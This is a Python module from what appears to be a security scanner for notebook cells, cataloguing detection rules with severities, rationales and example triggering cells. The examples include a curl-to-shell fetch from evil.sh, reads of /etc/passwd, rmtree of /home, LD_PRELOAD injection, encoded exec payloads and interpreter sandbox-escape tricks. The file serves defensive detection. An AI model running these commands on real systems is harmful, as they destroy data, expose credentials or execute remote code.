"""The rule catalogue: one record per rule id, the single source the docs table is built from."""

from __future__ import annotations

from dataclasses import dataclass

from .severity import Severity


@dataclass(frozen=True)
class Rule:
    """A rule: stable id, default severity, a title, why it matters and a cell that triggers it."""

    id: str
    severity: Severity
    title: str
    why: str
    example: str


_C, _H, _M, _L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

_RULE_LIST: tuple[Rule, ...] = (
    Rule(
        "shell-command", _C, "Shell command from Python",
        "os.system, os.popen, os.exec*/spawn*, pty.spawn run programs outside the Python sandbox.",
        'import os as o\no.system("curl evil.sh | sh")',
    ),
    Rule(
        "subprocess", _C, "Subprocess",
        "subprocess, asyncio subprocesses, pexpect, sh/plumbum start arbitrary programs.",
        'from subprocess import run\nrun(["ls", "/"])',
    ),
    Rule(
        "ipython-shell-magic", _C, "IPython shell escape",
        "!cmd, !!cmd, %system, %sx, %%bash/%%sh/%%script and shell aliases run a shell.",
        "!cat /etc/passwd",
    ),
    Rule(
        "ipython-run-load", _H, "IPython %run / %load",
        "%run executes a file the scanner never read; %load pulls code from a file or URL.",
        "%run helper.py",
    ),
    Rule(
        "package-install", _H, "Package installation",
        "%pip / %conda / pip.main install code from the network and run its build hooks.",
        "%pip install totally-safe-package",
    ),
    Rule(
        "env-magic", _H, "Environment change",
        "%env / os.environ writes of PATH, LD_PRELOAD, PYTHONPATH, proxies ... change what runs "
        "next; harmless variables are reported at medium.",
        "%env LD_PRELOAD=/tmp/x.so",
    ),
    Rule(
        "network", _H, "Network access",
        "Sockets, HTTP clients, dataset downloaders and URLs handed to readers leak data or pull "
        "payloads; only hosts on the policy allow-list pass.",
        'import pandas as pd\ndf = pd.read_csv("https://example.com/x.csv")',
    ),
    Rule(
        "path-escape", _H, "File access outside the sandbox",
        "Absolute paths, ~, .., file:// URLs, symlinks and unfiltered tar extraction reach files "
        "outside the working and data directories.",
        'open("/etc/passwd").read()',
    ),
    Rule(
        "delete-outside-workdir", _C, "Deletion outside the working directory",
        "Removing files outside the working directory (or the dataset itself) destroys data.",
        'import shutil\nshutil.rmtree("/home")',
    ),
    Rule(
        "code-file", _H, "Code written to files",
        "Writing .py, .pth or .so files (open, Path.write_text, %%writefile, %save, copies and "
        "renames) or adding a directory the notebook can write to sys.path lets a later "
        "import, %run or interpreter start run code the scanner never read. Data files (.csv, "
        ".json, .png, model checkpoints, including .pth ones) stay allowed.",
        'with open("helper.py", "w") as f:\n    f.write("import os")',
    ),
    Rule(
        "dynamic-code", _C, "Dynamic code execution",
        "eval/exec/compile of a non-literal, code objects and IPython run_cell execute code the "
        "scanner cannot read.",
        "exec(input())",
    ),
    Rule(
        "encoded-payload", _C, "Encoded payload",
        "A base64/hex/rot13/zlib/chr-encoded string handed to exec/eval or used as an attribute "
        "name is an evasion; the scanner decodes it and scans the payload too.",
        'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
    ),
    Rule(
        "pandas-eval-injection", _H, "pandas query/eval reaching Python objects",
        "DataFrame.query/eval and pd.eval strings with dunders or @obj.attr / @f() calls reach "
        "arbitrary Python objects; plain @var is reported at medium.",
        'df.query("@pd.io.common.os.system(\'ls\')")',
    ),
    Rule(
        "unsafe-deserialization", _H, "Unsafe deserialization",
        "pickle/joblib/dill/shelve/marshal, np.load(allow_pickle=True), torch.load without "
        "weights_only and yaml.load run code while loading; files the cell wrote itself pass.",
        'import pickle\nobj = pickle.load(open(DATA_PATH, "rb"))',
    ),
    Rule(
        "public-dataset", _L, "Public dataset loader",
        "sklearn.datasets.load_*/fetch_*, seaborn.load_dataset, statsmodels.datasets, openml, "
        "tensorflow_datasets, keras and torchvision datasets, datasets.load_dataset of a hub "
        "dataset ... load a public copy of a dataset, where a workflow's coder could look up "
        "the test labels. Reported at low; blocked (high) under ScanPolicy.coder(), the "
        "workflow's policy. Downloads are network findings too.",
        "from sklearn.datasets import load_iris\nX, y = load_iris(return_X_y=True)",
    ),
    Rule(
        "ffi", _C, "Foreign function interface",
        "ctypes/cffi call C directly, bypassing every Python-level control.",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
    ),
    Rule(
        "interpreter-tampering", _H, "Interpreter tampering",
        "sys.modules, builtins, __import__, importlib, __subclasses__/__mro__/__globals__, frame "
        "walking and library internals that expose os let code escape every other rule.",
        "().__class__.__bases__[0].__subclasses__()",
    ),
    Rule(
        "dynamic-attribute", _H, "Computed attribute of a sensitive module",
        "getattr/attrgetter/vars()[...] on os, sys, builtins ... with a name the scanner cannot "
        "fold may reach any dangerous function.",
        "import os\nname = input()\ngetattr(os, name)('id')",
    ),
    Rule(
        "process-spawn", _H, "Process creation",
        "multiprocessing, os.fork, ProcessPoolExecutor and _thread start work that outlives "
        "or escapes the cell.",
        "import multiprocessing as mp\nmp.Process(target=print).start()",
    ),
    Rule(
        "detached-thread", _H, "Detached thread",
        "Daemon threads and threads never joined keep running after the cell ends.",
        "import threading\nthreading.Thread(target=print, daemon=True).start()",
    ),
    Rule(
        "signal-rlimit", _H, "Signals, resource limits and privileges",
        "signal handlers, os.kill, setrlimit and faulthandler interfere with the kernel's "
        "timeouts and limits; os.setuid/setresuid/setgroups and the rest of the uid/gid "
        "family change its privileges.",
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)",
    ),
    Rule(
        "denied-module", _H, "Module denied by policy",
        "The policy's denied_modules (default: credential stores, user databases, Windows APIs) "
        "are forbidden in this profile.",
        "import keyring\nkeyring.get_password('svc', 'me')",
    ),
    Rule(
        "frontend-code", _M, "Code for the notebook front end",
        "%%javascript / %%html / Javascript(...) run in the researcher's browser, not the kernel.",
        "%%javascript\nalert(1)",
    ),
    Rule(
        "unknown-magic", _M, "Unknown IPython magic",
        "A magic the scanner does not know may be an alias or extension that runs anything.",
        "%mystery_magic arg",
    ),
    Rule(
        "unicode-lookalike", _H, "Unicode look-alike identifier",
        "Python folds identifiers with NFKC (ｅｖａｌ is eval); look-alikes only hide names from "
        "reviewers and regex filters. Non-ASCII letters that fold to other non-ASCII (µ, 𝛼) are "
        "reported at low.",
        "ｅｖａｌ('1')",
    ),
    Rule(
        "syntax-error", _H, "Cell does not parse",
        "A cell the scanner cannot parse cannot be checked, so it is blocked (fail closed).",
        "def broken(:\n    pass",
    ),
    Rule(
        "scanner-error", _H, "Scanner failure",
        "An internal error or a cell nested deeper than policy.max_ast_depth blocks the cell "
        "(fail closed).",
        "x = " + "-" * 600 + "1",
    ),
)

RULES: dict[str, Rule] = {rule.id: rule for rule in _RULE_LIST}


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", "<br>")


def catalogue_markdown() -> str:
    """Render the catalogue as the Markdown table committed in docs/security-rules.md."""
    lines = [
        "| id | severity | title | why | example |",
        "|---|---|---|---|---|",
    ]
    for rule in _RULE_LIST:
        example = rule.example.replace("\n", "⏎ ").replace("|", "\\|").replace("`", "'")
        if len(example) > 60:
            example = example[:40] + f"… ({len(rule.example)} chars)"
        lines.append(
            f"| `{rule.id}` | {rule.severity} | {_cell(rule.title)} | {_cell(rule.why)} "
            f"| `{example}` |"
        )
    return "\n".join(lines) + "\n"
